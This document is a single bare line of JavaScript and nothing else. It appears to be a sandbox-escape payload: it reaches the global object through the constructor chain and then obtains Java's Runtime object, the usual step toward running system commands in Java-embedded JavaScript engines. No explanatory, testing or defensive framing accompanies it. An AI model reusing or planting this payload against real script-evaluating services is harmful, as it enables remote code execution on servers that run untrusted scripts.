var g = this.constructor.constructor("return this")(); g.java.lang.Runtime.getRuntime();
